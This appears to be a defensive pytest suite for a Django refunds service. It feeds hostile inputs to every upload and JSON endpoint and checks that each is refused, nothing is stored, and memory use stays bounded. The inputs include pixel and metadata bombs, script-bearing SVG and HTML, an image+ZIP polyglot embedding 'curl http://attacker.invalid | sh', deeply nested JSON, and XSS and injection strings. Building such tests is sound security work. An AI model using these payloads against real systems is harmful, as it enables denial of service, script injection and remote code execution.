"""One corpus of hostile input through every surface that takes files or text: the API's
multipart and JSON endpoints and the portal's forms. Each is refused with a 4xx and a
machine-readable code (a form error in the portal), nothing of the request is kept (no row,
no stored file), and the memory the worst of them costs the process checking it stays bounded
(RELIABILITY.md gives the bound)."""

from __future__ import annotations

import io
import json
import struct
import subprocess
import sys
import textwrap
import tracemalloc
import zipfile
import zlib
from pathlib import Path

import numpy as np
import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from refunds.models import (
    ApiKey,
    Evidence,
    EvidenceUpload,
    Merchant,
    Product,
    Rebuttal,
    RebuttalAttachment,
    ReferenceImage,
    RefundApplication,
    SettingsChange,
    WebhookEndpoint,
)
from refunds.services.platform import api_key_issue
from tests.conftest import subprocess_env
from tests.factories import jpeg, screen, submit, upload
from tests.refunds.api.test_applications import client_with, form
from tests.refunds.portal.media import mp4_header_claiming, small_mp4

pytestmark = pytest.mark.django_db

# What the peak memory of checking the worst file of the corpus may reach above the process's
# baseline, and the memory Python allocates while the API handles it (RELIABILITY.md).
VALIDATOR_RSS_BOUND_MB = 100
API_REQUEST_PYTHON_PEAK_BOUND_MB = 120


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_claiming(width: int, height: int) -> bytes:
    """A PNG header declaring width × height pixels over a few bytes of data."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(b"\0" * 4096))
        + _png_chunk(b"IEND", b"")
    )


def saved(image: Image.Image, fmt: str, **options: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, fmt, **options)
    return buffer.getvalue()


def jpeg_claiming(width: int, height: int) -> bytes:
    """A small JPEG whose frame header claims width × height."""
    data = bytearray(jpeg(seed=7))
    frame = data.index(b"\xff\xc0")
    data[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def webp_claiming(side: int) -> bytes:
    """A WebP whose extended header (VP8X) claims a side × side canvas."""
    data = bytearray(saved(Image.new("RGB", (64, 64), "grey"), "WEBP", exif=b"Exif\0\0MM\0*\0\0\0\x08\0\0"))
    assert data[12:16] == b"VP8X"
    data[24:27] = (side - 1).to_bytes(3, "little")
    data[27:30] = (side - 1).to_bytes(3, "little")
    return bytes(data)


def heic_claiming(width: int, height: int) -> bytes:
    """A 64 × 64 HEIC whose image extents (its ``ispe`` property) claim width × height: the
    size the header parse reports, before anything is decoded."""
    data = bytearray(saved(Image.new("RGB", (64, 64), "grey"), "HEIF", quality=50))
    extents = data.index(b"ispe")  # box type, then version and flags, then width and height
    assert struct.unpack_from(">II", data, extents + 8) == (64, 64)
    struct.pack_into(">II", data, extents + 8, width, height)
    return bytes(data)


def with_zip(data: bytes) -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as bundle:
        bundle.writestr("install.sh", "#!/bin/sh\ncurl http://attacker.invalid | sh\n")
    return data + archive.getvalue()


def jpeg_with_metadata(segments: int, *, kind: bytes = b"\xff\xe1") -> bytes:
    """A small JPEG carrying ``segments`` metadata segments of 64 KB each after its SOI."""
    data = jpeg(seed=8)
    payload = b"Exif\0\0MM\0*\0\0\0\x08\xff\xff" + bytes(65_000)
    segment = kind + struct.pack(">H", len(payload) + 2) + payload
    return data[:2] + segment * segments + data[2:]


def mp4_with_huge_box() -> bytes:
    """An MP4 whose movie box declares a 64-bit size far past the end of the file."""
    ftyp = struct.pack(">I4s", 24, b"ftyp") + b"isom\0\0\2\0isomiso2"
    return ftyp + struct.pack(">I4sQ", 1, b"moov", 2**62) + bytes(64)


PNG = saved(Image.new("RGB", (200, 200), "white"), "PNG")
WEBP = saved(Image.new("RGB", (200, 200), "white"), "WEBP")

# name → (file name, bytes, the codes that may refuse it). MP4s are refused as videos where
# videos are allowed (attachments) and as no image elsewhere.
CORPUS: dict[str, tuple[str, bytes, set[str]]] = {
    "empty file": ("photo.jpg", b"", {"empty_file"}),
    "truncated JPEG": ("photo.jpg", jpeg(seed=1)[:1500], {"corrupt_image"}),
    "truncated PNG": ("photo.png", PNG[:-40], {"corrupt_image"}),
    "truncated WebP": ("photo.webp", WEBP[: len(WEBP) // 2], {"corrupt_image"}),
    "PNG claiming 60000 x 60000": ("bomb.png", png_claiming(60_000, 60_000), {"too_many_pixels"}),
    "PNG bomb that decompresses to 100 MP": (
        "bomb.png",
        saved(Image.new("1", (10_000, 10_000)), "PNG"),
        {"too_many_pixels"},
    ),
    "JPEG claiming 65000 x 65000": ("bomb.jpg", jpeg_claiming(65_000, 65_000), {"too_many_pixels"}),
    "JPEG claiming just over the pixel limit": ("big.jpg", jpeg_claiming(8_000, 5_001), {"too_many_pixels"}),
    "WebP claiming 16384 x 16384": ("bomb.webp", webp_claiming(16_384), {"too_many_pixels"}),
    "HEIC claiming 60000 x 60000": ("bomb.heic", heic_claiming(60_000, 60_000), {"too_many_pixels"}),
    "HEIC claiming just over the pixel limit": ("big.heic", heic_claiming(8_000, 5_001), {"too_many_pixels"}),
    "TIFF": ("scan.jpg", saved(Image.new("RGB", (64, 64)), "TIFF"), {"unsupported_media_type"}),
    "GIF": ("photo.gif", saved(Image.new("RGB", (64, 64)), "GIF"), {"unsupported_media_type"}),
    "SVG with a script": (
        "photo.jpg",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
        {"unsupported_media_type"},
    ),
    "HTML renamed .jpg": (
        "photo.jpg",
        b"<!doctype html><html><body><script>fetch('/admin/')</script></body></html>",
        {"unsupported_media_type"},
    ),
    "JPEG + ZIP polyglot": ("photo.jpg", with_zip(jpeg(seed=2)), {"unsupported_media_type"}),
    "PNG + ZIP polyglot": ("photo.png", with_zip(PNG), {"unsupported_media_type"}),
    "EXIF metadata bomb (40 segments of 64 KB)": ("photo.jpg", jpeg_with_metadata(40), {"metadata_too_large"}),
    "comment-segment bomb (40 of 64 KB)": (
        "photo.jpg",
        jpeg_with_metadata(40, kind=b"\xff\xfe"),
        {"metadata_too_large"},
    ),
    "MP4 with a box past the end of the file": (
        "packing.mp4",
        mp4_with_huge_box(),
        {"corrupt_video", "unsupported_media_type"},
    ),
    "MP4 claiming 10000 frames over 64 bytes": (
        "packing.mp4",
        mp4_header_claiming(frames=10_000),
        {"corrupt_video", "unsupported_media_type"},
    ),
    "truncated MP4": ("packing.mp4", small_mp4()[:-200], {"corrupt_video", "unsupported_media_type"}),
}


def stored_files() -> set[Path]:
    return {path for path in Path(settings.MEDIA_ROOT).rglob("*") if path.is_file()}


def rows() -> dict[str, int]:
    models = (
        RefundApplication,
        Evidence,
        EvidenceUpload,
        ReferenceImage,
        Rebuttal,
        RebuttalAttachment,
        Merchant,
        Product,
        WebhookEndpoint,
        SettingsChange,
    )
    return {model.__name__: model.objects.count() for model in models}


class Nothing:
    """Snapshot of every row count and stored file; equal afterwards when nothing was kept."""

    def __init__(self) -> None:
        self.rows, self.files = rows(), stored_files()

    def kept(self) -> bool:
        return rows() != self.rows or stored_files() != self.files


def refused_by_the_api(response, codes: set[str]) -> None:
    assert 400 <= response.status_code < 500, (response.status_code, response.content[:300])
    assert response.json()["error"]["code"] in codes, response.json()


@pytest.fixture
def awaiting(product):
    return screen(submit(product, order_ref="order-hostile"))


@pytest.fixture
def owner_client(client, merchant_owner):
    client.force_login(merchant_owner)
    return client


def api_upload_surfaces(product, awaiting):
    """Each API path that takes a file: (what, path, fields besides the file, its field name)."""
    application_fields = form(product)
    application_fields.pop("evidence")
    return [
        ("create an application", "/api/v1/applications", application_fields, "evidence"),
        ("stage evidence", "/api/v1/evidence-uploads", {}, "file"),
        ("add evidence", f"/api/v1/applications/{awaiting.public_id}/evidence", {}, "evidence"),
        (
            "contest with attachments",
            f"/api/v1/applications/{awaiting.public_id}/contest",
            {"statement": "Intact."},
            "attachments",
        ),
        ("add a reference image", f"/api/v1/products/{product.public_id}/reference-images", {}, "image"),
    ]


@pytest.mark.parametrize("case", sorted(CORPUS))
def test_every_api_upload_path_refuses_the_file_and_keeps_nothing(product, awaiting, key_a, case):
    name, data, codes = CORPUS[case]
    client = client_with(key_a)
    for what, path, fields, field in api_upload_surfaces(product, awaiting):
        before = Nothing()
        response = client.post(path, {**fields, field: [upload(data, name)]}, format="multipart")
        refused_by_the_api(response, codes)
        assert not before.kept(), what
    awaiting.refresh_from_db()
    assert awaiting.state == "awaiting_merchant"


@pytest.mark.parametrize("case", sorted(CORPUS))
def test_every_portal_upload_form_refuses_the_file_and_keeps_nothing(owner_client, product, awaiting, case):
    name, data, _ = CORPUS[case]
    forms = [
        (
            f"/portal/applications/{awaiting.public_id}/contest/",
            {"reason_codes": ["shipped_intact"], "statement": "Intact.", "confirm": "on", "attachments": []},
            "attachments",
        ),
        (f"/portal/products/{product.public_id}/", {"kind": "shipped_item"}, "image"),
    ]
    for path, fields, field in forms:
        before = Nothing()
        response = owner_client.post(
            path, {**fields, field: [SimpleUploadedFile(name, data)]}, HTTP_ACCEPT_LANGUAGE="en"
        )
        assert response.status_code == 400, (path, response.status_code)
        assert "error-summary" in response.content.decode()
        assert not before.kept(), path


def nested(depth: int) -> bytes:
    return ("[" * depth + "]" * depth).encode()


JSON_CASES: dict[str, tuple[bytes, str, set[str]]] = {
    "JSON nested 100 000 deep": (nested(100_000), "application/json", {"parse_error"}),
    "object nested 50 000 deep": (b'{"a":' * 50_000 + b"1" + b"}" * 50_000, "application/json", {"parse_error"}),
    "oversized JSON (3 MB)": (
        json.dumps({"name": "x" * 3_000_000, "external_ref": "big"}).encode(),
        "application/json",
        {"request_too_large"},
    ),
    "invalid JSON": (b'{"name": "shop",', "application/json", {"parse_error"}),
    "JSON that is not an object": (b'["name", "shop"]', "application/json", {"invalid", "parse_error"}),
    "XML": (b"<merchant><name>x</name></merchant>", "application/xml", {"unsupported_media_type"}),
    "plain text": (b"name=shop", "text/plain", {"unsupported_media_type"}),
    "NUL in a string": (b'{"name": "sh\\u0000op", "external_ref": "nul"}', "application/json", {"invalid"}),
    "NUL in a key": (b'{"na\\u0000me": "shop", "external_ref": "nul-key"}', "application/json", {"invalid"}),
    "lone surrogate": (b'{"name": "\\ud800", "external_ref": "surrogate"}', "application/json", {"invalid"}),
    "overlong string": (
        json.dumps({"name": "shop", "external_ref": "r" * 100_000}).encode(),
        "application/json",
        {"invalid"},
    ),
    "wrong types": (b'{"name": {"$gt": ""}, "external_ref": ["a"]}', "application/json", {"invalid"}),
    "not UTF-8": ('{"name": "店铺"}'.encode("utf-16"), "application/json", {"parse_error"}),
}


def json_surfaces():
    return [
        ("POST", "/api/v1/merchants"),
        ("POST", "/api/v1/products"),
        ("POST", "/api/v1/applications"),
        ("POST", "/api/v1/webhook-endpoints"),
        ("PATCH", "/api/v1/policy"),
    ]


@pytest.mark.parametrize("case", sorted(JSON_CASES))
def test_every_json_endpoint_refuses_hostile_bodies_and_keeps_nothing(merchant, platform_a, case):
    body, content_type, codes = JSON_CASES[case]
    client = client_with(api_key_issue(platform=platform_a, name="all", scopes=list(ApiKey.Scope.values))[1])
    for method, path in json_surfaces():
        before = Nothing()
        response = client.generic(method, path, body, content_type=content_type)
        refused_by_the_api(response, codes | {"invalid"})
        assert not before.kept(), path


@pytest.mark.parametrize(
    "amount", ["-1", "0", "0.001", "1e400", "NaN", "Infinity", "99999999999999999999999", "１２", "12,50", "0x10"]
)
def test_a_negative_absurd_or_foreign_amount_is_refused(product, key_a, amount):
    before = Nothing()
    response = client_with(key_a).post("/api/v1/applications", form(product, amount=amount), format="multipart")
    refused_by_the_api(response, {"invalid", "invalid_amount"})
    assert not before.kept()


def test_thousands_of_parts_in_one_multipart_body_are_refused(product, key_a):
    client = client_with(key_a)
    fields = form(product) | {f"field{n}": "x" for n in range(3_000)}
    before = Nothing()
    refused_by_the_api(client.post("/api/v1/applications", fields, format="multipart"), {"too_many_fields"})
    files = form(product, *[upload(jpeg(seed=n % 3)) for n in range(200)])
    refused_by_the_api(client.post("/api/v1/applications", files, format="multipart"), {"too_many_fields"})
    assert not before.kept()


@pytest.mark.parametrize(
    "statement",
    ["Intact.\x00<script>alert(1)</script>", "x" * 20_000],
    ids=["NUL", "overlong"],
)
def test_a_hostile_statement_in_the_portal_is_a_form_error(owner_client, awaiting, statement):
    before = Nothing()
    response = owner_client.post(
        f"/portal/applications/{awaiting.public_id}/contest/",
        {"reason_codes": ["shipped_intact"], "statement": statement, "confirm": "on"},
        HTTP_ACCEPT_LANGUAGE="en",
    )
    assert response.status_code == 400 and "error-summary" in response.content.decode()
    assert not before.kept()


def test_control_characters_are_kept_as_data_and_never_rendered_as_markup(key_a, owner_client, merchant):
    # Control and bidi characters are data a platform may send in its references; the API
    # answers them JSON-escaped and every page escapes them, so they cannot become markup.
    client = client_with(key_a)
    response = client.post(
        "/api/v1/merchants",
        {"external_ref": "ctl-\x07\x1b[31m", "name": "<img src=x onerror=alert(1)>\u202e"},
        format="json",
    )
    assert response.status_code == 201
    assert b"\\u0007" in response.content and b"\x07" not in response.content


def grainy_photo(size: tuple[int, int] = (4000, 3000), quality: int = 92) -> bytes:
    """A 12 MP JPEG of pure sensor noise: the most expensive honest photo to decode (about 11 MB)."""
    pixels = np.random.default_rng(1).integers(0, 256, (size[1], size[0], 3), dtype=np.uint8)
    return saved(Image.fromarray(pixels), "JPEG", quality=quality)


def test_the_worst_file_costs_bounded_memory_in_the_process_that_checks_it(tmp_path):
    # Checked in a fresh process whose peak resident memory is reset once Django is loaded,
    # so the peak read afterwards is what the validators every upload path calls cost on
    # this corpus; an honest 12 MP photo of pure noise goes last, as the yardstick.
    for index, (name, data, _) in enumerate(CORPUS.values()):
        (tmp_path / f"{index:02d} {name}").write_bytes(data)
    (tmp_path / "98 grainy photo + ZIP").write_bytes(with_zip(grainy_photo()))
    (tmp_path / "99 grainy photo").write_bytes(grainy_photo())
    script = textwrap.dedent(
        """
        import json, sys
        from pathlib import Path
        import django
        django.setup()
        from refunds.errors import UploadRejected
        from refunds.integration.uploads import validate_attachment

        def status(field):
            for line in open("/proc/self/status"):
                if line.startswith(field + ":"):
                    return int(line.split()[1]) / 1024

        with open("/proc/self/clear_refs", "w") as refs:
            refs.write("5")  # reset the peak (VmHWM) to the current resident size
        baseline, codes = status("VmRSS"), {}
        for path in sorted(Path(sys.argv[1]).iterdir()):
            with open(path, "rb") as handle:
                try:
                    validate_attachment(handle)
                    codes[path.name] = "accepted"
                except UploadRejected as error:
                    codes[path.name] = str(error.code)
        print(json.dumps({"baseline": baseline, "peak": status("VmHWM"), "codes": codes}))
        """
    )
    done = subprocess.run(
        [sys.executable, "-c", script, str(tmp_path)],
        env=subprocess_env(),
        capture_output=True,
        text=True,
        check=True,
        cwd=Path(__file__).resolve().parents[2],
    )
    result = json.loads(done.stdout.strip().splitlines()[-1])
    codes = result.pop("codes")
    assert [name for name, code in codes.items() if code == "accepted"] == ["99 grainy photo"], codes
    growth = result["peak"] - result["baseline"]
    print(
        f"validators: peak RSS {result['peak']:.0f} MB, {growth:.0f} MB over the {result['baseline']:.0f} MB baseline"
    )
    assert growth < VALIDATOR_RSS_BOUND_MB


def test_the_api_handling_the_largest_hostile_upload_allocates_bounded_memory(product, key_a):
    data = with_zip(grainy_photo())
    client = client_with(key_a)
    before = Nothing()
    tracemalloc.start()
    try:
        response = client.post("/api/v1/applications", form(product, upload(data, "photo.jpg")), format="multipart")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    refused_by_the_api(response, {"unsupported_media_type"})
    assert not before.kept()
    print(f"{len(data) / 1e6:.1f} MB upload: Python allocations peaked at {peak / 1e6:.0f} MB")
    assert peak / 2**20 < API_REQUEST_PYTHON_PEAK_BOUND_MB
